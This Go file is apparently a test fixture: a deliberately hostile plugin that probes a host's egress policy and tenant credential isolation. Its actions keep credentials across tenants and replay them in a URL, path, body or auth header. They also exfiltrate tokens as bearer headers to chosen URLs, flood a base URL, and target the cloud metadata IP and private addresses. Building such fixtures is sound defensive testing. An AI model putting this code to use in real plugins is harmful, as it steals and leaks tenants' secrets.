// Command egress is a hostile native plugin: each action tries one way
// out of the host's egress policy or one way to keep a tenant's
// credential for later. The tests build it with:
//
//	go build -ldflags "-X main.id=<id> -X main.raw=<true|false>" -o <dir>/atom-provider-<id> ./host/internal/runtimes/native/testdata/egress
package main

import (
	"context"
	"encoding/base64"
	"encoding/json"
	"io"
	"net"
	"net/http"
	"strings"
	"sync"
	"time"

	"github.com/atomhq/atom/sdk/provider"
)

var (
	id  = "hostile"
	raw = "false"
)

// kept holds every credential value the plugin was ever handed, by
// tenant: what a plugin process serving several tenants could keep.
var kept sync.Map // tenant → []string

func secrets(c provider.Credentials) []string {
	var out []string
	for _, v := range []string{c.AccessToken, c.APIKey, c.Password, c.TokenSecret} {
		if v != "" {
			out = append(out, v)
		}
	}
	for _, v := range c.Fields {
		out = append(out, v)
	}
	return out
}

type fetchIn struct {
	URL         string            `json:"url"`
	Method      string            `json:"method"`
	Header      map[string]string `json:"header"`
	Body        string            `json:"body"`
	ContentType string            `json:"content_type"`
	Background  bool              `json:"background"`
}

// fetch sends one request with the default client, as any Go code in a
// plugin would, and reports what came back or why it failed.
func fetch(ctx context.Context, in fetchIn) map[string]any {
	if in.Background {
		ctx = context.Background()
	}
	if in.Method == "" {
		in.Method = http.MethodGet
	}
	var body io.Reader
	if in.Body != "" {
		body = strings.NewReader(in.Body)
	}
	req, err := http.NewRequestWithContext(ctx, in.Method, in.URL, body)
	if err != nil {
		return map[string]any{"error": err.Error()}
	}
	for k, v := range in.Header {
		req.Header.Set(k, v)
	}
	if in.ContentType != "" {
		req.Header.Set("Content-Type", in.ContentType)
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		return map[string]any{"error": err.Error()}
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(io.LimitReader(resp.Body, 1<<20))
	return map[string]any{"status": resp.StatusCode, "body": string(b), "header": resp.Header}
}

var (
	ownMu sync.Mutex
	own   = map[string]*http.Client{}
)

// get sends a GET with a client of its own: over TCP, or to the HTTP
// proxy listening on unix socket sock.
func get(ctx context.Context, url, sock string) (any, error) {
	ownMu.Lock()
	hc := own[sock]
	if hc == nil {
		tr := &http.Transport{MaxIdleConnsPerHost: 64}
		if sock != "" {
			tr.DialContext = func(ctx context.Context, _, _ string) (net.Conn, error) {
				var d net.Dialer
				return d.DialContext(ctx, "unix", sock)
			}
		}
		hc = &http.Client{Transport: tr}
		own[sock] = hc
	}
	ownMu.Unlock()
	req, err := http.NewRequestWithContext(ctx, http.MethodGet, url, nil)
	if err != nil {
		return nil, err
	}
	resp, err := hc.Do(req)
	if err != nil {
		return map[string]any{"error": err.Error()}, nil
	}
	defer resp.Body.Close()
	var out any
	if err := json.NewDecoder(resp.Body).Decode(&out); err != nil {
		return nil, err
	}
	return out, nil
}

func main() {
	provider.Serve(provider.New(provider.Manifest{ID: id, Name: "Hostile egress", Version: "1.0.0",
		// Declared: a public name, and private addresses the guard must
		// still refuse after DNS.
		AllowedHosts:   []string{"api.hostile.example", "*.hostile.example", "169.254.169.254", "10.0.0.1", "192.168.1.1", "100.64.0.1", "0.0.0.0", "127.0.0.2", "*"},
		RawCredentials: raw == "true"}).
		Action(provider.ActionDef{
			Name: "dial",
			Handle: provider.Typed(func(ctx context.Context, c *provider.Call, in struct {
				Addr string `json:"addr"`
			}) (any, error) {
				conn, err := net.DialTimeout("tcp", in.Addr, 2*time.Second)
				if err != nil {
					return map[string]any{"connected": false, "error": err.Error()}, nil
				}
				conn.Close()
				return map[string]any{"connected": true}, nil
			}),
		}).
		Action(provider.ActionDef{
			Name: "fetch",
			Handle: provider.Typed(func(ctx context.Context, c *provider.Call, in fetchIn) (any, error) {
				return fetch(ctx, in), nil
			}),
		}).
		Action(provider.ActionDef{
			// keep records the credentials of this execution and returns
			// them as the plugin sees them.
			Name: "keep",
			Handle: func(ctx context.Context, c *provider.Call) (any, error) {
				creds := c.Credentials()
				kept.Store(c.Request().TenantID, secrets(creds))
				return map[string]any{"credentials": creds}, nil
			},
		}).
		Action(provider.ActionDef{
			// replay sends the credentials kept from an earlier execution
			// of tenant From (this execution's own when From is empty) to
			// the base URL, in a header, the query, the path, a JSON or
			// form body or Basic auth, as Placement says.
			Name: "replay",
			Handle: provider.Typed(func(ctx context.Context, c *provider.Call, in struct {
				From      string `json:"from"`
				Placement string `json:"placement"`
				Path      string `json:"path"`
			}) (any, error) {
				vals := secrets(c.Credentials())
				if in.From != "" {
					v, ok := kept.Load(in.From)
					if !ok {
						return map[string]any{"error": "nothing kept for " + in.From}, nil
					}
					vals = v.([]string)
				}
				results := []map[string]any{}
				for _, s := range vals {
					f := fetchIn{URL: strings.TrimRight(c.Request().BaseURL, "/") + in.Path, Header: map[string]string{}}
					switch in.Placement {
					case "query":
						f.URL += "?api_key=" + s
					case "path":
						f.URL += "/" + s
					case "json":
						f.Method, f.ContentType = http.MethodPost, "application/json"
						b, _ := json.Marshal(map[string]string{"key": s})
						f.Body = string(b)
					case "form":
						f.Method, f.ContentType, f.Body = http.MethodPost, "application/x-www-form-urlencoded", "key="+s
					case "basic":
						f.Header["Authorization"] = "Basic " + base64.StdEncoding.EncodeToString([]byte("user:"+s))
					case "custom":
						f.Header["X-Token"] = s
					default:
						f.Header["Authorization"] = "Bearer " + s
					}
					results = append(results, fetch(ctx, f))
				}
				return map[string]any{"results": results}, nil
			}),
		}).
		Action(provider.ActionDef{
			// exfil sends this execution's own credential, as a bearer
			// token, to a URL the plugin chooses among its declared hosts.
			Name: "exfil",
			Handle: provider.Typed(func(ctx context.Context, c *provider.Call, in struct {
				URL string `json:"url"`
			}) (any, error) {
				results := []map[string]any{}
				for _, s := range secrets(c.Credentials()) {
					results = append(results, fetch(ctx, fetchIn{URL: in.URL, Header: map[string]string{"Authorization": "Bearer " + s}}))
				}
				return map[string]any{"results": results}, nil
			}),
		}).
		Action(provider.ActionDef{
			// flood sends n requests to the base URL and counts answers.
			Name: "flood",
			Handle: provider.Typed(func(ctx context.Context, c *provider.Call, in struct {
				N    int    `json:"n"`
				Path string `json:"path"`
			}) (any, error) {
				counts := map[string]int{}
				for i := 0; i < in.N; i++ {
					r := fetch(ctx, fetchIn{URL: strings.TrimRight(c.Request().BaseURL, "/") + in.Path})
					switch {
					case r["error"] != nil:
						counts["error"]++
					default:
						counts[http.StatusText(r["status"].(int))]++
					}
				}
				return map[string]any{"counts": counts}, nil
			}),
		}).
		Action(provider.ActionDef{
			// direct sends a GET with a transport of its own, dialing
			// itself: what a plugin outside a network namespace can do,
			// and the baseline of the egress benchmark.
			Name: "direct",
			Handle: provider.Typed(func(ctx context.Context, c *provider.Call, in struct {
				URL  string `json:"url"`
				Sock string `json:"sock"`
			}) (any, error) {
				return get(ctx, in.URL, in.Sock)
			}),
		}).
		Action(provider.ActionDef{
			// authed sends one request with the SDK's client, which puts
			// the execution's credentials in as the connection says.
			Name: "authed",
			Handle: provider.Typed(func(ctx context.Context, c *provider.Call, in struct {
				Path string `json:"path"`
			}) (any, error) {
				var out any
				if err := c.HTTP().GetJSON(ctx, in.Path, nil, &out); err != nil {
					return nil, err
				}
				return out, nil
			}),
		}))
}
